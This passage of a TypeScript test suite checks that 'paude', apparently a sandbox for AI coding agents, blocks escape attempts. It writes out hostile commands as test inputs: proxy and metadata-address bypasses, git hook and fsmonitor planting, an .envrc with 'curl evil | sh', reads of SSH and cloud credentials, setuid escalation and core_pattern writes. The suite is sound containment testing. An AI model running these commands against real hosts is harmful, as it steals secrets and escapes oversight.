      await prove('200 from the allowed server, then the refusal', () => {
        expect(r.stdout).toMatch(/HTTP\/1\.1 200[\s\S]*HTTP\/1\.1 403[\s\S]*X-Paude-Denied: blocked\.test/i);
        expect(s.allowed.requests.some((q) => q.url === '/first')).toBe(true);
      });
    });

    escapeCase('by a CONNECT tunnel to the allowed host that then asks for another', { control: "the tunnel is opened (200) and the request sent inside it arrives at the allowed server" }, async (prove) => {
      const r = await agent(
        s,
        s.a,
        `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT allowed.test:${s.allowed.port} HTTP/1.1\\r\\nHost: blocked.test:${s.forbidden.port}\\r\\n\\r\\n' >&3; sleep 1; printf 'GET http://blocked.test:${s.forbidden.port}/inside HTTP/1.1\\r\\nHost: blocked.test:${s.forbidden.port}\\r\\nConnection: close\\r\\n\\r\\n' >&3; timeout 5 cat <&3`,
      );
      untouched(s, 'a request inside a tunnel to an allowed host');
      await prove('the tunnel led to the allowed server only', async () => {
        expect(r.stdout).toMatch(/^HTTP\/1\.1 200/);
        await until('the request inside the tunnel', () => s.allowed.requests.some((q) => q.url.endsWith('/inside')));
      });
    });

    escapeCase('by CONNECT to the allowed host on a port the allowlist does not name', { control: "the policy's 403 with X-Paude-Denied; the same CONNECT on the named port is opened (200)" }, async (prove) => {
      const r = await raw(s, s.a, 'CONNECT', `allowed.test:${s.forbidden.port}`, `allowed.test:${s.allowed.port}`);
      untouched(s, 'CONNECT to another port');
      await prove('refused by the policy; the named port opens', async () => {
        expectDenied(r, 'CONNECT to another port');
        expect((await raw(s, s.a, 'CONNECT', `allowed.test:${s.allowed.port}`)).status).toBe('200');
      });
    });

    escapeCase('by the provider route to another destination', { control: 'both requests arrive at the provider' }, async (prove) => {
      await curl(s, s.a, `-x http://127.0.0.1:3129 http://blocked.test:${s.forbidden.port}/via-provider`);
      await curl(s, s.a, `-H 'Host: blocked.test:${s.forbidden.port}' http://127.0.0.1:3129/via-provider-host`);
      untouched(s, 'the provider route');
      await prove('the provider got both', () => {
        const urls = s.provider.requests.map((q) => q.url);
        expect(urls.some((u) => u.endsWith('/via-provider')), JSON.stringify(urls)).toBe(true);
        expect(urls.some((u) => u.endsWith('/via-provider-host')), JSON.stringify(urls)).toBe(true);
      });
    });

    escapeCase('by getting the provider key added to a request to another host', { control: 'both probes arrive (at the allowed server, and from session B at the forbidden one); the provider gets the key' }, async (prove) => {
      await curl(s, s.a, `http://allowed.test:${s.allowed.port}/key-probe`);
      await curl(s, s.b, `http://blocked.test:${s.forbidden.port}/key-probe`);
      await curl(s, s.a, 'http://127.0.0.1:3129/v1/key-control');
      await prove('the probes arrived, and the key goes where it should', async () => {
        expect(s.allowed.requests.some((q) => q.url === '/key-probe')).toBe(true);
        await reachedForbidden(s, '/key-probe');
        expect(s.provider.requests.find((q) => q.url === '/v1/key-control')?.headers['x-api-key']).toBe(API_KEY);
      });
      const leaked = [...s.allowed.requests, ...s.forbidden.requests].filter((q) => JSON.stringify(q.headers).includes(API_KEY));
      expect(leaked, 'ESCAPE: the API key was sent to a host that is not the provider').toEqual([]);
    });
  });

  describe('network: always refused, even with filtering off (session B)', () => {
    // Raw requests to the proxy: what any client could send, without curl's own URL rules
    // (it rewrites numeric hosts and skips the proxy for loopback names).
    const always: Array<[string, string, string]> = [
      ['the cloud metadata address', 'GET', 'http://169.254.169.254/latest/meta-data/'],
      ['the cloud metadata address over CONNECT', 'CONNECT', '169.254.169.254:443'],
      ['the cloud metadata address as a decimal number', 'GET', 'http://2852039166/latest/meta-data/'],
      ['the cloud metadata address as an IPv4-mapped IPv6 literal', 'GET', 'http://[::ffff:169.254.169.254]/'],
      ['a link-local IPv6 address', 'GET', 'http://[fe80::1]/'],
      ["the proxy's own provider port on its loopback", 'GET', 'http://127.0.0.1:3129/v1/messages'],
      ["the proxy's own provider port over CONNECT", 'CONNECT', '127.0.0.1:3129'],
      ["the proxy's loopback as a decimal number", 'GET', 'http://2130706433:3129/'],
      ["the proxy's loopback in hex", 'GET', 'http://0x7f000001:3129/'],
      ["the proxy's loopback in short form", 'GET', 'http://127.1:3129/'],
      ["the proxy's loopback as localhost", 'GET', 'http://localhost:3129/'],
      ["the proxy's loopback over IPv6", 'GET', 'http://[::1]:3129/'],
      ["the proxy's loopback as an IPv4-mapped IPv6 literal", 'GET', 'http://[::ffff:127.0.0.1]:3129/'],
      ['the unspecified address 0.0.0.0', 'GET', 'http://0.0.0.0:3129/'],
    ];
    for (const [what, method, target] of always) {
      escapeCase(`reach ${what}`, { control: "squid's 403 ERR_ACCESS_DENIED in open mode (not a failed connection); the same raw request to the forbidden server is served there" }, async (prove) => {
        const r = await raw(s, s.b, method, target);
        expect(r.status, `ESCAPE: the proxy answered ${method} ${target} with filtering off`).not.toMatch(/^[23]/);
        await prove('refused by an access rule; the same request shape is served in B', async () => {
          // Refused by the proxy itself, not merely left unanswered: it never tried to connect.
          expectRefused(r, `${method} ${target}`);
          const control = method === 'CONNECT' ? await raw(s, s.b, 'CONNECT', `blocked.test:${s.forbidden.port}`) : await raw(s, s.b, 'GET', `http://blocked.test:${s.forbidden.port}/always`);
          expect(control.status, control.out).toBe('200');
        });
      });
    }

    escapeCase('reach the cloud metadata address after the user allowed it by IP (restricted session)', { control: "squid's 403 ERR_ACCESS_DENIED without X-Paude-Denied: the policy now allows it, the always-refused rule still refuses" }, async (prove) => {
      const before = await raw(s, s.a, 'GET', 'http://169.254.169.254/latest/meta-data/');
      const allow = await s.p.paude(['allow', 'ip:169.254.169.254', '--session', s.a]);
      expect(allow.code, allow.stderr).toBe(0);
      const r = await raw(s, s.a, 'GET', 'http://169.254.169.254/latest/meta-data/');
      expect(r.status, 'ESCAPE: an allowlist entry opened the metadata address').toBe('403');
      await prove('the policy changed its answer; the access rule did not', () => {
        expectDenied(before, 'the metadata address before the allow');
        expectRefused(r, 'the metadata address after the allow');
        expect(r.headers['x-paude-denied'], r.out).toBeUndefined();
      });
    });

    escapeCase("read squid's configuration (and the key in it) through its cache manager", { control: "squid's 403 ERR_ACCESS_DENIED for every manager URL" }, async (prove) => {
      // squid's manager answers on its own host name (the proxy container's, which squid's error
      // pages show), on the port it listens on.
      const host = (await engine.docker.getContainer(`${s.b}-proxy`).inspect()).Config.Hostname;
      const answers: Array<[string, Answer]> = [];
      for (const url of [`http://${host}:3128/squid-internal-mgr/config`, `http://${host}:3128/squid-internal-mgr/menu`, `cache_object://${host}/config`, 'http://127.0.0.1:3128/squid-internal-mgr/config', 'http://localhost:3128/squid-internal-mgr/menu']) {
        const r = await agent(s, s.b, `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET ${url} HTTP/1.0\\r\\n\\r\\n' >&3; timeout 5 cat <&3`);
        expect(r.stdout, `ESCAPE: squid's cache manager answered ${url}`).not.toMatch(/request_header_add|http_port|Cache Manager menu|cache_peer/);
        expect(r.stdout).not.toContain(API_KEY);
        answers.push([url, parseAnswer(r.stdout)]);
      }
      await prove('each refused by an access rule', () => {
        for (const [url, a] of answers) expectRefused(a, url);
      });
    });
  });

  describe('network: exhaust the proxy to make it fail open', () => {
    escapeCase('holds 300 idle connections open, then asks for a refused host', { control: "300 connections were really open; then the policy's 403 with X-Paude-Denied, and the allowed host still served" }, async (prove) => {
      const r = await agent(
        s,
        s.a,
        `n=0; for i in $(seq 300); do exec {fd}<>/dev/tcp/127.0.0.1/3128 || break; n=$i; done; echo "opened $n"; curl -s -D - -o /dev/null --max-time 10 http://blocked.test:${s.forbidden.port}/; echo '---'; curl -s -o /dev/null -w '%{http_code}' --max-time 10 http://allowed.test:${s.allowed.port}/after-idle`,
      );
      const [head = '', allowed = ''] = r.stdout.split('---');
      const refused = parseAnswer(head);
      expect(refused.status, 'ESCAPE: the refused host answered while the proxy was loaded').not.toBe('200');
      untouched(s, 'requests under many idle connections');
      await prove('under the load, the refusal and the service', () => {
        expect(head).toMatch(/^opened 300$/m);
        expectDenied(refused, 'a refused host under 300 idle connections');
        expect(allowed.trim()).toBe('200');
      });
    });

    escapeCase('floods the policy helper with 1,000 distinct refused names at once', { control: "all 1,000 answered with the policy's 403; then a refused request gets the 403 with X-Paude-Denied and the allowed host is served" }, async (prove) => {
      const r = await agent(s, s.a, `curl -s -Z --parallel-max 200 --max-time 60 -o /dev/null -w '%{http_code}\\n' 'http://n[1-1000].blocked.test:${s.forbidden.port}/' | sort | uniq -c`);
      expect(r.stdout, 'ESCAPE: a refused name answered under a flood').not.toMatch(/\s200$/m);
      untouched(s, 'a flood of refused names');
      await prove('every one refused, and the proxy still decides', async () => {
        expect(r.stdout.trim()).toMatch(/^1000 403$/);
        expectDenied(await curl(s, s.a, `http://blocked.test:${s.forbidden.port}/after-flood`), 'a refused host after the flood');
        expect((await curl(s, s.a, `http://allowed.test:${s.allowed.port}/after-flood`)).status).toBe('200');
      });
    });

    escapeCase('sends an oversized URL and oversized headers for a refused host', { control: "squid's own error answers for both; then a refused request gets the 403 with X-Paude-Denied and the allowed host is served" }, async (prove) => {
      const r = await agent(s, s.a, `long=$(head -c 70000 /dev/zero | tr '\\0' a); curl -s -D - -o /dev/null --max-time 10 "http://blocked.test:${s.forbidden.port}/$long"; echo '---'; curl -s -D - -o /dev/null --max-time 10 -H "X-Big: $long" http://blocked.test:${s.forbidden.port}/`);
      const [url, headers] = [0, 1].map((i) => parseAnswer(r.stdout.split('---')[i] ?? '')) as [Answer, Answer];
      expect([url.status, headers.status], 'ESCAPE: an oversized request got through').not.toContain('200');
      untouched(s, 'oversized requests');
      await prove("squid's answers, and the proxy still decides", async () => {
        for (const a of [url, headers]) {
          expect(a.status, a.out).toMatch(/^4\d\d$/);
          expect(a.headers['x-squid-error'], a.out).toBeTruthy();
        }
        expectDenied(await curl(s, s.a, `http://blocked.test:${s.forbidden.port}/after-big`), 'a refused host after oversized requests');
        expect((await curl(s, s.a, `http://allowed.test:${s.allowed.port}/after-big`)).status).toBe('200');
      });
    });
  });

  describe('the workspace: protected paths never reach the host', () => {
    const unchanged = async (rel: string): Promise<void> => {
      const path = join(s.p.ws, rel);
      expect(await readFile(path, 'utf8'), `ESCAPE: ${rel} was changed on the host`).toBe(s.hostFiles.get(path));
    };
    const absent = async (rel: string): Promise<void> => {
      const present = await lstat(join(s.p.ws, rel)).then(
        () => true,
        () => false,
      );
      expect(present, `ESCAPE: ${rel} exists on the host`).toBe(false);
    };
    /** An unprotected path the same script wrote: it is on the host, so the agent's writes land. */
    const landed = async (rel: string, text: string): Promise<void> => {
      expect(await readFile(join(s.p.ws, rel), 'utf8'), `the control write to ${rel} did not reach the host`).toContain(text);
    };
    /**
     * paude moved what the agent created to the quarantine, and the repository no longer has it.
     * Both sessions share the workspace, so the keeper of either may be the one that moves it.
     */
    const quarantined = async (rel: string, file: string, text: string, agentSaw = ''): Promise<void> => {
      const holds = (session: string): Promise<boolean> => {
        const path = join(s.p.dataDir, 'quarantine', session, rel, file);
        // A directory may be moved as soon as it is made, before the agent's files in it: then
        // it is there (only the agent made it), without them.
        if (!text) return lstat(path).then(() => true, () => false);
        return readFile(path, 'utf8').then((t) => t.includes(text), () => false);
      };
      await until(`${rel} in the quarantine (the agent saw: ${agentSaw})`, async () => (await holds(s.a)) || (await holds(s.b)));
      await absent(rel);
    };

    escapeCase('writes a git hook', { control: 'EROFS for the hook; a file written beside it in .git reaches the host' }, async (prove) => {
      const r = await agent(s, s.a, `printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo ${STAMP} > .git/escape-control-hook`);
      await absent('.git/hooks/pre-commit');
      await prove('read-only mount; .git itself is written through', async () => {
        expect(r.stderr).toMatch(EROFS);
        await landed('.git/escape-control-hook', STAMP);
      });
    });

    escapeCase('rewrites .git/config (core.hooksPath, core.fsmonitor)', { control: 'EROFS for the append, and git could not replace the file' }, async (prove) => {
      const r = await agent(s, s.a, 'git config core.fsmonitor "touch /tmp/pwned"; echo "git=$?"; printf "[core]\\n\\thooksPath = evil\\n" >> .git/config');
      await unchanged('.git/config');
      await prove('read-only mount', () => {
        expect(r.stderr).toMatch(EROFS);
        expect(r.stdout).toMatch(/^git=[1-9]/m);
      });
    });

    escapeCase('moves .git aside and makes a new one with a hook', { control: 'EBUSY for the rename of the mount point, EROFS for the hook and config' }, async (prove) => {
      const r = await agent(s, s.a, 'mv .git .git-aside; mkdir -p .git/hooks && printf "#!/bin/sh\\n" > .git/hooks/post-checkout; printf "[core]\\n\\tfsmonitor = evil\\n" > .git/config');
      await absent('.git-aside');
      await absent('.git/hooks/post-checkout');
      await unchanged('.git/config');
      await prove('the mount point cannot move, the mounts refuse the writes', () => {
        expect(r.stderr).toMatch(/Device or resource busy/);
        expect(r.stderr.match(new RegExp(EROFS.source, 'g')) ?? [], r.stderr).toHaveLength(2);
      });
    });

    escapeCase('points git at another common directory (.git/commondir)', { control: "the agent's .git/commondir is moved to paude's quarantine; evil-git/config, not protected, reaches the host" }, async (prove) => {
      await agent(s, s.a, 'mkdir -p evil-git/hooks && printf "[core]\\n\\tfsmonitor = evil\\n" > evil-git/config && echo ../evil-git > .git/commondir');
      await prove('quarantined, and the write beside it landed', async () => {
        await landed('evil-git/config', 'fsmonitor = evil');
        await quarantined('.git/commondir', '', '../evil-git');
      });
    });

    escapeCase('rewrites a submodule’s config or hooks, or points its checkout’s .git file at a repository of its own', { control: 'EROFS for the config, the hook and the .git file; evil-sub/config, not protected, reaches the host' }, async (prove) => {
      const r = await agent(s, s.a, 'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/modules/sub/config; printf "#!/bin/sh\\n" > .git/modules/sub/hooks/post-checkout; mkdir -p evil-sub && printf "[core]\\n\\tfsmonitor = evil\\n" > evil-sub/config && echo "gitdir: ../evil-sub" > sub/.git; mv sub sub-aside; echo "mv=$?"');
      await unchanged('.git/modules/sub/config');
      await absent('.git/modules/sub/hooks/post-checkout');
      await unchanged('sub/.git');
      await prove('read-only mounts; the write beside them landed', async () => {
        expect(r.stderr.match(new RegExp(EROFS.source, 'g')) ?? [], r.stderr).toHaveLength(3);
        await landed('evil-sub/config', 'fsmonitor = evil');
      });
    });

    escapeCase('adds a submodule repository of its own under .git/modules (git status on the host would enter it)', { control: "the new module directory (made by the agent on the host) is in paude's quarantine" }, async (prove) => {
      const r = await agent(s, s.a, 'mkdir -p .git/modules/evil && echo "ref: refs/heads/main" > .git/modules/evil/HEAD && printf "[core]\\n\\tfsmonitor = evil\\n" > .git/modules/evil/config; ls -la .git/modules .git/modules/evil');
      await prove('quarantined', () => quarantined('.git/modules/evil', '', '', r.stdout + r.stderr));
    });

    escapeCase('points a linked worktree at another common directory (.git/worktrees/*/commondir)', { control: "EROFS for the commondir; the new config.worktree is moved to paude's quarantine" }, async (prove) => {
      const r = await agent(s, s.a, 'echo ../../../evil-git > .git/worktrees/feature/commondir; printf "[core]\\n\\tfsmonitor = evil\\n" > .git/worktrees/feature/config.worktree');
      await unchanged('.git/worktrees/feature/commondir');
      await prove('read-only mount, and quarantined', async () => {
        expect(r.stderr).toMatch(EROFS);
        await quarantined('.git/worktrees/feature/config.worktree', '', 'fsmonitor = evil');
      });
    });

    escapeCase('replaces a protected file by renaming over it, or deletes it', { control: 'EBUSY for the rename over and the removal of the mount points; new.json, not protected, reaches the host' }, async (prove) => {
      const r = await agent(s, s.a, 'echo "{\\"mcpServers\\":{\\"x\\":{\\"command\\":\\"evil\\"}}}" > new.json; mv -f new.json .mcp.json; rm -f .mcp.json; rm -rf .vscode .git/hooks');
      await unchanged('.mcp.json');
      await unchanged('.vscode/settings.json');
      await prove('the mount points cannot be replaced or removed; the new file landed', async () => {
        expect(r.stderr).toMatch(/mv: .*Device or resource busy/);
        expect(r.stderr).toMatch(/rm: .*\.mcp\.json.*Device or resource busy/);
        await landed('new.json', 'evil');
      });
    });

    escapeCase('hard-links a protected file and writes through the link', { control: 'EXDEV for links to protected files; a hard link to an unprotected file, written through, reaches the host' }, async (prove) => {
      const r = await agent(s, s.a, `ln .git/config cfg-link && echo "[alias] x = !evil" >> cfg-link; ln .mcp.json mcp-link && echo evil > mcp-link; echo ${STAMP} > link-source && ln link-source link-control && echo through-${STAMP} >> link-control`);
      await unchanged('.git/config');
      await unchanged('.mcp.json');
      await prove('cross-device for the protected ones; the unprotected link works', async () => {
        expect(r.stderr.match(/Invalid cross-device link/g) ?? [], r.stderr).toHaveLength(2);
        await landed('link-source', `through-${STAMP}`);
      });
    });

    escapeCase('creates .envrc, which direnv would run on the host', { control: "the .envrc is moved to paude's quarantine" }, async (prove) => {
      await agent(s, s.a, 'echo "curl evil | sh" > .envrc');
      await prove('quarantined', () => quarantined('.envrc', '', 'curl evil'));
    });

    escapeCase('widens the next session by editing the project paude.json', { control: 'EROFS' }, async (prove) => {
      const r = await agent(s, s.a, 'echo "{\\"network\\":{\\"allowlist\\":[\\"blocked.test\\"]}}" > paude.json && echo written');
      expect(r.stdout).not.toContain('written');
      await unchanged('paude.json');
      await prove('read-only mount', () => expect(r.stderr).toMatch(EROFS));
    });

    escapeCase('widens the next session with a devcontainer.json', { control: "the .devcontainer directory (made by the agent on the host) is in paude's quarantine" }, async (prove) => {
      const r = await agent(s, s.a, 'mkdir -p .devcontainer && echo "{\\"image\\":\\"evil\\",\\"containerEnv\\":{\\"X\\":\\"1\\"}}" > .devcontainer/devcontainer.json');
      await prove('quarantined', () => quarantined('.devcontainer', '', '', r.stdout + r.stderr));
    });

    escapeCase("persists a change to the project's .claude/ (hooks that would run on the host)", { control: 'the write succeeds inside the session (its ephemeral copy shows it)' }, async (prove) => {
      const r = await agent(s, s.a, 'echo "{\\"hooks\\":{\\"Stop\\":[{\\"hooks\\":[{\\"type\\":\\"command\\",\\"command\\":\\"evil\\"}]}]}}" > .claude/settings.json && cat .claude/settings.json');
      await unchanged('.claude/settings.json');
      await prove('the agent changed its copy', () => expect(r.stdout).toContain('evil'));
    });

    escapeCase('symlinks a host path into the workspace and reads through it', { control: 'the link reaches the host and leads to the secret there; in the container the path does not exist (ENOENT)' }, async (prove) => {
      const target = join(s.p.dir, 'home', '.ssh', 'id_ed25519');
      const r = await agent(s, s.a, `ln -sf ${target} ssh-link; cat ssh-link; cat ${target}`);
      expect(r.stdout, 'ESCAPE: a host file was read through a symlink').not.toContain(MARKER);
      await prove('the link is on the host, and read there it gives the secret', async () => {
        expect(r.stderr.match(/No such file or directory/g) ?? [], r.stderr).toHaveLength(2);
        expect(await readlink(join(s.p.ws, 'ssh-link'))).toBe(target);
        expect(await readFile(join(s.p.ws, 'ssh-link'), 'utf8')).toContain(MARKER);
      });
    });

    escapeCase('mounts over a protected path (no CAP_SYS_ADMIN)', { control: "mount refused for a non-root user; EPERM for a new user namespace (Docker's seccomp profile), or, where one is allowed (Podman's), the mount and the write inside it succeed there and do not reach the host" }, async (prove) => {
      const r = await agent(s, s.a, 'mount -t tmpfs none .git/hooks && echo mounted; unshare -m -r sh -c "mount -t tmpfs none .git/hooks && echo > .git/hooks/x && echo inside"');
      expect(r.stdout).not.toMatch(/^mounted$/m);
      await absent('.git/hooks/x');
      await prove('refused, or private to the namespace', () => {
        expect(r.stderr).toMatch(/mount: .*must be superuser/);
        if (!/unshare failed: Operation not permitted/.test(r.stderr)) expect(r.stdout, r.stderr).toMatch(/^inside$/m);
      });
    });
  });

  describe('the host: credentials, engine, privileges', () => {
    const credentials: Array<[string, string]> = [
      ['~/.ssh', '.ssh/id_ed25519'],
      ['~/.aws', '.aws/credentials'],
      ['the GitHub CLI token', '.config/gh/hosts.yml'],
      ['git credentials', '.git-credentials'],
      ['~/.netrc', '.netrc'],
      ['the Docker registry credentials', '.docker/config.json'],
      ['the kubeconfig', '.kube/config'],
    ];
    for (const [what, rel] of credentials) {
      escapeCase(`reads ${what}, which was not granted`, { control: 'the same command reads the granted ~/.gitconfig from the same home' }, async (prove) => {
        const r = await agent(s, s.a, `cat "$HOME/${rel}" ${join(s.p.dir, 'home', rel)} /root/${rel}; cat "$HOME/.gitconfig"`);
        expect(r.stdout, `ESCAPE: ${rel} was readable`).not.toContain(MARKER);
        await prove('the granted file is read', () => expect(r.stdout).toContain(GRANTED));
      });
    }

    /** The control of the search cases: a secret in a granted file and in a process's environment is found. */
    const searchControl = async (): Promise<void> => {
      const half = Math.floor(GRANTED.length / 2);
      const r = await agent(s, s.a, `c='${GRANTED.slice(0, half)}'; d='${GRANTED.slice(half)}'; (export PAUDE_ESCAPE_CONTROL="$c$d"; exec sleep 60) & ${search(GRANTED)}; kill $!`);
      expect(r.stdout).toMatch(/^\/home\/paude\/\.gitconfig$/m);
      expect(Number(r.stdout.trim().split('\n').at(-1))).toBeGreaterThan(0);
    };

    escapeCase('finds any planted secret anywhere on its file system or in any environment', { control: 'the same search finds a granted secret in ~/.gitconfig and in a process environment' }, async (prove) => {
      const r = await agent(s, s.a, search(MARKER));
      expect(r.stdout.trim(), 'ESCAPE: a host secret is visible in the container').toBe('0');
      await prove('the search finds what is there', searchControl);
    });

    escapeCase('reads the API key the proxy holds (files, environment, processes)', { control: 'the same search finds a granted secret in ~/.gitconfig and in a process environment' }, async (prove) => {
      const r = await agent(s, s.a, search(API_KEY));
      expect(r.stdout.trim(), 'ESCAPE: the API key is visible in the container').toBe('0');
      await prove('the search finds what is there', searchControl);
    });

    escapeCase('finds the engine socket', { control: 'the same probe finds a stand-in engine the agent starts on a socket of its own' }, async (prove) => {
      const r = await agent(
        s,
        s.a,
        `printf 'HTTP/1.1 200 OK\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\nOK' > /tmp/ping.http; printf '%s\\n' 'sed -u "/^\\r\\?$/q" >/dev/null' 'cat /tmp/ping.http' > /tmp/respond; socat UNIX-LISTEN:/tmp/stand-in-engine.sock,fork SYSTEM:'sh /tmp/respond' & until [ -S /tmp/stand-in-engine.sock ]; do sleep 0.1; done; ls -la /run/podman/podman.sock /var/run/docker.sock /run/docker.sock /run/user/*/podman/podman.sock 2>&1; echo "DOCKER_HOST=\${DOCKER_HOST:-} CONTAINER_HOST=\${CONTAINER_HOST:-}"; for sock in $(find / -xdev -type s 2>/dev/null; find /run /tmp /var -type s 2>/dev/null); do out=$(curl -sf --max-time 2 --unix-socket "$sock" http://engine/_ping) && [ "$out" = OK ] && echo "answered $sock"; done; kill $!`,
      );
      const answered = r.stdout.split('\n').filter((l) => l.startsWith('answered ')).filter((l) => l !== 'answered /tmp/stand-in-engine.sock');
      expect(answered, 'ESCAPE: an engine socket answered').toEqual([]);
      expect(r.stdout).toMatch(/DOCKER_HOST= CONTAINER_HOST=$/m);
      await prove('the probe finds an engine where there is one', () => {
        expect(r.stdout).toMatch(/^answered \/tmp\/stand-in-engine\.sock$/m);
        expect(r.stdout.match(/No such file or directory/g) ?? [], r.stdout).toHaveLength(4);
      });
    });

    escapeCase("reaches the engine's TCP API on the host", { control: "ENETUNREACH for every port in the agent; from the open container the same loop reaches a stand-in API the suite listens with on the host" }, async (prove) => {
      const script = `for port in 2375 2376 8080 ${s.standIn.port}; do timeout 3 bash -c "exec 3<>/dev/tcp/${s.gateway}/$port" && echo "open $port"; done; curl -s --max-time 5 http://${s.gateway}:${s.standIn.port}/_ping`;
      const r = await agent(s, s.a, script);
      expect(r.stdout).not.toMatch(/open|OK/);
      await prove('no route in the agent; the open container reaches the stand-in', async () => {
        expect(unreachable(r.stderr), r.stderr).toBe(4);
        const o = await agent(s, s.open, script);
        expect(o.stdout).toMatch(new RegExp(`^open ${s.standIn.port}$`, 'm'));
        expect(o.stdout).toMatch(/^OK$/m);
        expect(s.standIn.requests.some((q) => q.url === '/_ping')).toBe(true);
      });
    });

    escapeCase('becomes root with sudo, su or a setuid binary', { control: "the uid the agent is left with is the workspace owner's after each try; the setuid-root mount fails as an unprivileged mount call (no-new-privileges)" }, async (prove) => {
      const r = await agent(
        s,
        s.a,
        'echo "sudo: $(sudo -n id -u 2>&1)"; echo "su: $(su -c "id -u" root </dev/null 2>&1)"; for f in $(find / -xdev -perm -4000 -user root -type f 2>/dev/null); do echo "setuid $f"; done; cp /bin/sh /tmp/sh && chmod u+s /tmp/sh; echo "copied sh: $(/tmp/sh -c "id -u")"; echo "mount: $(mount -t tmpfs none /tmp 2>&1)"; echo "id: $(id -u)"',
      );
      expect(r.stdout.split('\n').filter((l) => /:\s*0$/.test(l)), `ESCAPE: the agent became root (${r.stdout})`).toEqual([]);
      await prove("still the workspace owner's uid everywhere, and a setuid-root binary did not raise it", () => {
        expect(r.stdout).toMatch(new RegExp(`^copied sh: ${WORKSPACE_UID}$`, 'm'));
        expect(r.stdout).toMatch(new RegExp(`^id: ${WORKSPACE_UID}$`, 'm'));
        // mount is setuid root: raised, it would take its restricted path for a normal user ("only
        // root can use..."); it fails as any unprivileged mount call does instead.
        expect(r.stdout).toMatch(/^setuid \/usr\/bin\/mount$/m);
        expect(r.stdout).toMatch(/^mount: mount: \/tmp: must be superuser to use mount\.$/m);
      });
    });

    escapeCase('holds or gains any capability (no-new-privileges, empty sets)', { control: "the kernel's own status of the agent's process: empty sets, no-new-privileges, seccomp filtering; EPERM for chown" }, async (prove) => {
      const r = await agent(s, s.a, "grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status; touch /tmp/own && chown 0 /tmp/own");
      await prove('what the kernel reports', () => {
        expect(r.stdout).toMatch(/CapPrm:\s+0{16}/);
        expect(r.stdout).toMatch(/CapEff:\s+0{16}/);
        expect(r.stdout).toMatch(/CapBnd:\s+0{16}/);
        expect(r.stdout).toMatch(/NoNewPrivs:\s+1/);
        expect(r.stdout).toMatch(/Seccomp:\s+2/);
        expect(r.stderr).toMatch(/chown: .*Operation not permitted/);
      });
    });

    escapeCase('uses a new user namespace to act as root on real files or the network', { control: "EPERM for the new user namespace (Docker's seccomp profile); where one is allowed (Podman's), its root is refused the image (EROFS) and the network (ENETUNREACH)" }, async (prove) => {
      const r = await agent(s, s.a, `unshare -r bash -c "echo uid=\\$(id -u); touch /usr/bin/pwned && echo wrote-image; exec 3<>/dev/tcp/${s.gateway}/${s.forbidden.port} && echo connected"; ls /usr/bin/pwned 2>/dev/null && echo exists`);
      expect(r.stdout).not.toMatch(/wrote-image|connected|exists/);
      untouched(s, 'root in a user namespace');
      await prove('refused by the kernel', () => {
        if (/unshare failed: Operation not permitted/.test(r.stderr)) return;
        expect(r.stdout, r.stderr).toMatch(/^uid=0$/m);
        expect(r.stderr).toMatch(/\/usr\/bin\/pwned.*Read-only file system/);
        expect(unreachable(r.stderr), r.stderr).toBe(1);
      });
    });

    escapeCase('changes the read-only image', { control: 'EROFS for the image files (Permission denied for /etc/passwd where the engine mounts its own); a write to the home (a session volume) succeeds' }, async (prove) => {
      const r = await agent(s, s.a, 'echo evil > /usr/local/bin/claude && echo wrote; echo evil >> /etc/passwd && echo wrote; touch /usr/bin/x && echo wrote; echo ok > ~/escape-control && cat ~/escape-control');
      expect(r.stdout).not.toContain('wrote');
      await prove('read-only root, writable home', () => {
        expect(r.stderr).toMatch(/\/usr\/local\/bin\/claude: Read-only file system/);
        expect(r.stderr).toMatch(/\/usr\/bin\/x.*Read-only file system/);
        // The engine bind-mounts its own /etc/passwd (Podman): there the file's owner refuses.
        expect(r.stderr).toMatch(/\/etc\/passwd: (Read-only file system|Permission denied)/);
        expect(r.stdout.trim()).toBe('ok');
      });
    });

    escapeCase("writes kernel settings, the cgroup's release agent or raw devices", { control: 'EROFS for /proc/sys, the release agent refused, EPERM for mknod, and the device list holds no disk' }, async (prove) => {
      const r = await agent(
        s,
        s.a,
        'echo "|/tmp/x" > /proc/sys/kernel/core_pattern && echo core; echo c > /proc/sysrq-trigger && echo sysrq; echo /tmp/x > /sys/fs/cgroup/release_agent && echo release; mknod /tmp/sda b 8 0 && echo mknod; ls /dev | grep -E "^(sd|nvme|vd|xvd|mem|kmem)" && echo devices; cat /dev/mem >/dev/null 2>&1 && echo mem; ls /dev | grep -c "^null$"',
      );
      expect(r.stdout.trim(), `ESCAPE: ${r.stdout}`).toBe('1');
      await prove("the kernel's refusals", () => {
        expect(r.stderr).toMatch(/core_pattern: Read-only file system/);
        expect(r.stderr).toMatch(/release_agent: (Read-only file system|Permission denied|No such file or directory)/);
        expect(r.stderr).toMatch(/mknod: .*Operation not permitted/);
      });
    });

    escapeCase("sees the host's processes, or the proxy's", { control: "the same listing shows the agent's own processes, and run in the proxy container it shows squid" }, async (prove) => {
      const pattern = /^(node|vitest|dockerd|podman|conmon|containerd|squid|systemd)$/m;
      const r = await agent(s, s.a, 'ps -e -o comm=');
      expect(r.stdout, 'ESCAPE: host or proxy processes are visible').not.toMatch(pattern);
      await prove('the listing sees what is in its namespace', async () => {
        expect(r.stdout).toMatch(/^ps$/m);
        const proxy = await execIn(engine.docker, `${s.a}-proxy`, ['sh', '-c', 'cat /proc/[0-9]*/comm']);
        expect(proxy.stdout).toMatch(pattern);
      });
    });

    escapeCase('persists a change to ~/.claude and ~/.claude.json on the host', { control: "the writes succeed inside the session (the container's copies show them)" }, async (prove) => {
      const r = await agent(s, s.a, 'echo "{\\"hooks\\":{\\"SessionStart\\":[{\\"hooks\\":[{\\"type\\":\\"command\\",\\"command\\":\\"evil\\"}]}]}}" > ~/.claude/settings.json; echo "{\\"mcpServers\\":{\\"x\\":{\\"command\\":\\"evil\\"}}}" > ~/.claude.json; cat ~/.claude/settings.json ~/.claude.json');
      for (const rel of ['.claude/settings.json', '.claude.json']) {
        const path = join(s.p.dir, 'home', rel);
        expect(await readFile(path, 'utf8'), `ESCAPE: ~/${rel} changed on the host`).toBe(s.hostFiles.get(path));
      }
      await prove('the agent changed its copies', () => {
        expect(r.stdout).toContain('"SessionStart"');
